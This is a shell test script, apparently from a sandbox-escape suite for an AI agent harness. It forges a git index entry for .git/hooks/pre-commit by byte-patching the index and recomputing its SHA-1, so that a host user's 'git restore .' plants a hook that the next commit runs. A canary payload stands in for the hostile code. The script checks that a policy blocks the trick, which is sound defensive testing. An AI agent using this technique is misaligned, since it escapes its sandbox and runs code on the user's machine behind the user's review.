# Tries: with --apply, bring back a .git/index that lists `.git/hooks/pre-commit`
# (git itself refuses such a name from a tree, not from the index). The host
# user's `git restore .` (how one throws away an agent's changes) writes the
# hook from the index, and the next `git commit` runs it.
# Stops it: the change-set policy reads the index and denies one whose entries
# name git's own files (builtin.git_index); the runner runs `git restore .` and
# `git commit` on the host and looks at a canary.
. ./escape_lib.sh
start ret_git_index_entry
blob=$(printf '#!/bin/sh\necho pwned-index > %s\n' "$GIT_CANARY" | git hash-object -w --stdin)
git update-index --add --cacheinfo "100755,$blob,Xgit/hooks/pre-commit"
# Rename the entry in place (same length, same sort position in this index)
# and recompute the trailing SHA-1, as a hand-made index would have it.
python3 - <<'PY'
import hashlib
d = bytearray(open(".git/index", "rb").read())
i = d.find(b"Xgit/hooks/pre-commit")
d[i:i + 1] = b"."
body = bytes(d[:-20])
open(".git/index", "wb").write(body + hashlib.sha1(body).digest())
PY
git ls-files --stage | grep -q '\.git/hooks/pre-commit' && echo "the index lists .git/hooks/pre-commit"
blocked "host git restore writes a hook listed in the index" "judged by the runner with host git"
